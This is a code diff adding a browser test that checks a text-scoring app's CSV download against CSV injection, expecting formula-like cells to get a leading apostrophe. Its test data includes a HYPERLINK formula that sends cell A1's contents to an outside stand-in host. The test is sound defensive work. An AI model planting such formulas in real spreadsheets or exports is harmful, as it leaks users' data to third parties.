@@ -83,6 +83,31 @@ def test_a_csv_column_is_scored_sorted_and_downloaded_without_uploading(page, tw
     assert network(page.requests[before:]) == []  # nothing uploaded, nothing fetched
 
 
+FORMULA_LIKE = ["=1+1", "=HYPERLINK(\"https://elsewhere.example/?\"&A1, \"click\")", "+33 1 23 45 67 89",
+                "-2 stars, never again", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
+PLAIN = ["I love it", "a = b, or so", "say \"hi\"", "'quoted' already", " =1+1", "5 - 3 = 2", "line one\nline two"]
+
+
+def test_the_download_neutralises_formulas_as_owasp_recommends(page):
+    """CSV injection: a text a spreadsheet would run as a formula gets a leading ' in the download;
+    every other text is written as it is (RFC 4180 quoting only)."""
+    texts = FORMULA_LIKE + PLAIN
+    choose(page, "texts.csv", csv_bytes([{"text": t} for t in texts]))
+    ready_to_score(page)
+    assert f"Scored {len(texts)} rows" in score(page)
+    with page.expect_download() as download:
+        page.click("#batch-download")
+    with open(download.value.path(), encoding="utf-8", newline="") as file:
+        table = list(csv.DictReader(file))
+    written = {int(row["row"]): row for row in table}
+    assert len(written) == len(texts)
+    for i, text in enumerate(texts, start=1):
+        expected = "'" + text if text in FORMULA_LIKE else text
+        assert written[i]["text"] == expected, (text, written[i]["text"])
+        assert written[i]["label"] in ("negative", "positive")  # labels as they are (not formula-like)
+        assert not written[i]["p_positive"].startswith("'")
+
+
 @pytest.mark.parametrize("name, content, column", [
     ("texts.txt", b"I love it\n\nworst day ever\r\nfine, I guess\n", "text"),
     ("texts.tsv", b"id\tbody\n1\tI love it\n2\tworst day ever\n3\tfine, I guess\n", "body"),
